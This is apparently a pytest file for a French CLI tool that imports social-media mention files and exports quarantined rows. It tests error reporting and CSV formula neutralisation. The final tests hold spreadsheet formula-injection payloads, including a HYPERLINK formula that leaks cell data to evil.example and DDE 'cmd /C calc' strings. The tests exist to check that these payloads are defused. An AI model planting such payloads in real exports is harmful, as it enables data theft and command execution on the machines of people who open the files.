"""`rumeur import` over several files, and `rumeur quarantine export` as a spreadsheet
opens it: real project, real store, real files."""

from __future__ import annotations

import csv
import json
import os
from pathlib import Path

import pytest
from typer.testing import CliRunner

from rumeur.cli import _load, app
from rumeur.csvsafe import neutralise

_load()
runner = CliRunner()

HEADER = "id;date;auteur;texte\n"


def test_a_bad_file_does_not_stop_the_others(
    project_dir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(project_dir)
    Path("a.csv").write_text(HEADER + "a1;2025-09-01 10:00;@a_fictif;Volta A\n")
    Path("sans_texte.csv").write_text("id;date\n1;2025-09-01\n")
    Path("b.csv").write_text(HEADER + "b1;2025-09-01 10:00;@b_fictif;Volta B\n")
    Path("illisible.csv").write_text(HEADER + "c1;2025-09-01 10:00;@c_fictif;Volta C\n")
    Path("illisible.csv").chmod(0)
    unreadable = os.geteuid() != 0  # root reads anything
    files = ["a.csv", "absent.csv", "sans_texte.csv", *(["illisible.csv"] * unreadable), "b.csv"]
    args = ["import", *files, "-p", str(project_dir)]
    result = runner.invoke(app, [*args, "--json"])
    assert result.exit_code == 5
    out = json.loads(result.stdout)
    assert [(r["file"], r["status"]) for r in out] == [
        ("a.csv", "done"), ("absent.csv", "failed"), ("sans_texte.csv", "failed"),
        *([("illisible.csv", "failed")] * unreadable), ("b.csv", "done"),
    ]  # fmt: skip
    assert out[-1]["imported"] == 1 and "fichier introuvable" in out[1]["error"]
    assert "aucune colonne ne contient le texte" in out[2]["error"] and out[2]["hint"]
    # in words: one line per file, in French, and the failures named at the end
    text = runner.invoke(app, args).output
    assert "a.csv : 0 importées, 1 doublons ignorés" in text
    assert "absent.csv : échec, rien n'a été enregistré" in text
    failed = ", ".join(["absent.csv", "sans_texte.csv", *(["illisible.csv"] * unreadable)])
    assert f"{2 + unreadable} fichier(s) non importé(s) : {failed}" in text


def test_file_names_are_literal_and_printed_as_they_are(
    project_dir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A name with brackets is neither a pattern nor Rich markup ("export .csv")."""
    monkeypatch.chdir(project_dir)
    Path("export [final].csv").write_text(HEADER + "f1;2025-09-01 10:00;@a_fictif;Volta ok\n")
    Path("export[1].csv").write_text(HEADER + "e1;2025-09-01 10:00;@a_fictif;Volta un\n")
    Path("export1.csv").write_text(HEADER + "x1;2025-09-01 10:00;@a_fictif;Volta FAUX\n")
    result = runner.invoke(
        app, ["import", "export [final].csv", "export[1].csv", "-p", str(project_dir)]
    )
    assert result.exit_code == 0, result.output
    assert "export [final].csv : 1 importées" in result.output
    assert "export[1].csv : 1 importées" in result.output
    rows = json.loads(runner.invoke(app, ["mentions", "-p", str(project_dir), "--json"]).stdout)
    assert sorted(r["text"] for r in rows) == ["Volta ok", "Volta un"]


def test_unknown_columns_are_reported_once(
    project_dir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(project_dir)
    rows = "".join(f"{i};2025-09-01 10:00;@a_fictif;Volta {i};FR;x\n" for i in range(50))
    Path("e.csv").write_text("id;date;auteur;texte;Pays;Divers\n" + rows)
    out = runner.invoke(app, ["import", "e.csv", "-p", str(project_dir)]).output
    assert out.count("colonnes inconnues conservées dans « extra » : Pays, Divers") == 1


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ('=HYPERLINK("https://evil.example/?"&A1,"Cliquez")', "'=HYPERLINK("),
        ("+cmd|' /C calc'!A0", "'+cmd|"),
        ("@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM("),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Volta, très bien", "Volta, très bien"),
    ],
)
def test_neutralise(cell: str, safe: str) -> None:
    assert neutralise(cell).startswith(safe)


def test_quarantine_export_neutralises_formulas(
    project_dir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Rows set aside keep their content as received, and a row's raw text starts with
    whatever its author wrote: exported to CSV for a person to fix in a spreadsheet, no
    cell may start a formula."""
    monkeypatch.chdir(project_dir)
    attacks = [
        '=HYPERLINK("https://evil.example/?"&A1,"Cliquez")',
        "+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
    ]
    # a cell too many: each row is set aside whole, as its raw line
    body = "".join(f"{a};2025-09-01 10:00;@a_fictif;Volta;en trop\n" for a in attacks)
    Path("piege.csv").write_text(HEADER + body)
    Path("piege.jsonl").write_text("=1+1\n@SUM(2)\n")  # malformed JSON: the line as is
    p = str(project_dir)
    assert runner.invoke(app, ["import", "piege.csv", "piege.jsonl", "-p", p]).exit_code == 0
    assert runner.invoke(app, ["quarantine", "export", "q.csv", "-p", p]).exit_code == 0
    with open("q.csv", encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == 6
    cells = [c for row in rows for c in row.values()]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    # the text is all there, after the quote that defuses it
    payloads = sorted(r["payload"] for r in rows)
    expected = [f"'{a};2025-09-01 10:00;@a_fictif;Volta;en trop" for a in attacks]
    assert payloads == sorted([*expected, "'=1+1", "'@SUM(2)"])
    # JSON Lines keep the values as they are (no spreadsheet reads them)
    out = runner.invoke(app, ["quarantine", "export", "-", "--format", "jsonl", "-p", p]).stdout
    assert sorted(json.loads(line)["payload"] for line in out.splitlines())[:2] == [
        "+cmd|' /C calc'!A0;2025-09-01 10:00;@a_fictif;Volta;en trop",
        "-2+3+cmd|' /C calc'!A0;2025-09-01 10:00;@a_fictif;Volta;en trop",
    ]
